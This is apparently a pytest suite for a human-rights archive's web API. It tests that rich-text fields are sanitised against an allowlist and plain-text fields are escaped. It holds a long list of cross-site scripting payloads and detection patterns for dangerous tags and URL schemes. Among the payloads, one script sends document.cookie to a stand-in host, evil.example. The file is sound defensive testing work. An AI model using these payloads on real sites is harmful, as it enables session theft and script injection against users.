"""Rich text is cleaned against an allowlist when stored; plain text is stored as given."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from archive.extensions import db
from archive.models import Actor, Citation, Event, Operation, Victim

PAYLOADS = [
    # script tags, in every shape
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '<script type="text/javascript">fetch("https://evil.example/?c="+document.cookie)</script>',
    "<!--<script>alert(1)</script>-->",
    "<p>before</p><script>alert(1)</script><p>after</p>",
    # images and event handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="x" ONERROR="alert(1)">',
    '<img src="javascript:alert(1)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
    '<strong onmouseenter="alert(1)">bold</strong>',
    '<a href="https://example.org" onclick="alert(1)">link</a>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    # javascript: URLs, cased, spaced and encoded
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a title="ok" href="javascript:alert(1)">x</a>',
    # data: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#100;ata:text/html,alert(1)">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # svg, math and other active content
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # style
    '<style>body{background:url("javascript:alert(1)")}</style>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="behavior: url(x.htc); width: expression(alert(1))">x</p>',
    # entity-encoded markup stays text, never becomes a tag
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
]

ACTIVE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "svg",
    "math",
    "img",
    "video",
    "audio",
    "source",
    "form",
    "input",
    "button",
    "meta",
    "base",
    "link",
    "body",
    "details",
    "noscript",
    "template",
}
BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)


class Collect(HTMLParser):
    """Every tag and attribute a browser would build from the markup."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parse(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = Collect()
    parser.feed(markup)
    parser.close()
    return parser.tags


def url_of(value: str) -> str:
    """An attribute value as a browser reads a URL: unescaped, without whitespace/controls."""
    value = html.unescape(html.unescape(value))
    return re.sub(r"[\x00-\x20\x7f]+", "", value)


def problems(markup: str) -> list[str]:
    found = []
    if re.search(r"<\s*/?\s*script", markup, re.IGNORECASE):
        found.append("a script tag")
    for tag, attrs in parse(markup):
        if tag in ACTIVE_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"{name} on <{tag}>")
            if name in ("style", "srcdoc", "formaction"):
                found.append(f"{name} on <{tag}>")
            if value and BAD_SCHEME.match(url_of(value)):
                found.append(f"{name}={value!r} on <{tag}>")
    return found


def test_the_checker_itself_sees_the_payloads():
    """Each payload with markup is flagged before cleaning, so a pass means something."""
    assert [p for p in PAYLOADS if not problems(p)] == PAYLOADS[-2:]  # the escaped ones


# Where rich text goes: (resource, field, model, how to make the record's other fields).
RICH_FIELDS = [
    ("events", "description", Event),
    ("victims", "circumstances", Victim),
    ("citations", "excerpt", Citation),
    ("operations", "description", Operation),
    ("actors", "description", Actor),
]


def base_body(resource: str, factory) -> dict:
    if resource == "events":
        return {"title": "Allanamiento", "event_type": "raid"}
    if resource == "victims":
        return {"event_id": factory.event(), "outcome": "killed"}
    if resource == "citations":
        return {"source_id": factory.source(), "target_type": "event", "target_id": factory.event()}
    if resource == "operations":
        return {"name": "OLP"}
    return {"name": "PNB", "kind": "state_police"}


def stored(app, model, record_id: int, field: str) -> str | None:
    with app.app_context():
        return getattr(db.session.get(model, record_id), field)


@pytest.mark.parametrize(("resource", "field", "model"), RICH_FIELDS)
def test_xss_payloads_are_neutralised_on_create(app, client, factory, auth, resource, field, model):
    body = base_body(resource, factory)
    failures = {}
    for payload in PAYLOADS:
        response = client.post(
            f"/api/v1/{resource}", json={**body, field: payload}, headers=auth("researcher")
        )
        assert response.status_code == 201, (payload, response.json)
        record_id = response.json["id"]
        fetched = client.get(f"/api/v1/{resource}/{record_id}", headers=auth("viewer")).json
        for where, value in (
            ("response", response.json[field]),
            ("read back", fetched[field]),
            ("database", stored(app, model, record_id, field)),
        ):
            if found := problems(value or ""):
                failures[f"{payload!r} ({where}): {value!r}"] = found
    assert failures == {}


@pytest.mark.parametrize(("resource", "field", "model"), RICH_FIELDS)
def test_xss_payloads_are_neutralised_on_update(app, client, factory, auth, resource, field, model):
    record = client.post(
        f"/api/v1/{resource}", json=base_body(resource, factory), headers=auth("researcher")
    ).json
    failures = {}
    for payload in PAYLOADS:
        response = client.patch(
            f"/api/v1/{resource}/{record['id']}", json={field: payload}, headers=auth("researcher")
        )
        assert response.status_code == 200, (payload, response.json)
        value = stored(app, model, record["id"], field)
        if found := problems(value or "") + problems(response.json[field] or ""):
            failures[f"{payload!r}: {value!r}"] = found
    assert failures == {}


@pytest.mark.parametrize(("resource", "field", "model"), RICH_FIELDS)
def test_allowed_markup_survives(client, factory, auth, resource, field, model):
    markup = (
        "<p>Quince muertos en la <strong>Cota 905</strong>, según "
        '<a href="https://provea.org/informe" title="PROVEA">el informe</a>.</p>'
        "<ul><li><em>primero</em></li></ul><blockquote>cita</blockquote>"
    )
    body = {**base_body(resource, factory), field: markup}
    value = client.post(f"/api/v1/{resource}", json=body, headers=auth("researcher")).json[field]

    tags = parse(value)
    assert [t for t, _ in tags] == ["p", "strong", "a", "ul", "li", "em", "blockquote"]
    link = dict(tags[2][1])
    assert link["href"] == "https://provea.org/informe"
    assert link["title"] == "PROVEA"
    assert "<strong>Cota 905</strong>" in value
    assert "Quince muertos en la" in value


def test_links_keep_safe_schemes_and_lose_handlers(client, auth):
    markup = (
        '<a href="https://example.org/a" onclick="alert(1)">https</a>'
        '<a href="http://example.org/b">http</a>'
        '<a href="mailto:prensa@example.org">mail</a>'
    )
    body = {"title": "Enlaces", "event_type": "raid", "description": markup}
    value = client.post("/api/v1/events", json=body, headers=auth("researcher")).json["description"]
    hrefs = [dict(attrs).get("href") for tag, attrs in parse(value) if tag == "a"]
    assert hrefs == ["https://example.org/a", "http://example.org/b", "mailto:prensa@example.org"]
    assert "onclick" not in value


PLAIN_TEXT = '<script>alert("x")</script> & "Cota 905" <b onclick=y>15</b> &amp; javascript:'


@pytest.mark.parametrize(
    ("resource", "field"),
    [
        ("events", "title"),
        ("events", "official_account"),
        ("events", "internal_notes"),
        ("victims", "name"),
        ("victims", "alias"),
        ("citations", "locator"),
        ("operations", "name"),
        ("operations", "announced_by"),
        ("actors", "name"),
        ("sources", "title"),
        ("sources", "publisher"),
    ],
)
def test_plain_text_fields_are_stored_exactly_as_given(client, factory, auth, resource, field):
    body = (
        {"kind": "news_article", "title": "Nota"}
        if resource == "sources"
        else base_body(resource, factory)
    )
    response = client.post(
        f"/api/v1/{resource}", json={**body, field: PLAIN_TEXT}, headers=auth("researcher")
    )
    assert response.status_code == 201, response.json
    assert response.json[field] == PLAIN_TEXT
    fetched = client.get(f"/api/v1/{resource}/{response.json['id']}", headers=auth("viewer"))
    assert fetched.json[field] == PLAIN_TEXT
    assert fetched.mimetype == "application/json"
    # Escaped on output: the bytes hold no markup even if something reads them as HTML.
    for raw in (response.data, fetched.data):
        assert b"<" not in raw and b">" not in raw


def test_a_rejected_rich_text_request_stores_nothing(client, auth, db_rows):
    before = db_rows()
    body = {"title": "x", "event_type": "bogus", "description": "<script>alert(1)</script>"}
    response = client.post("/api/v1/events", json=body, headers=auth("researcher"))
    assert response.status_code == 422
    assert db_rows() == before
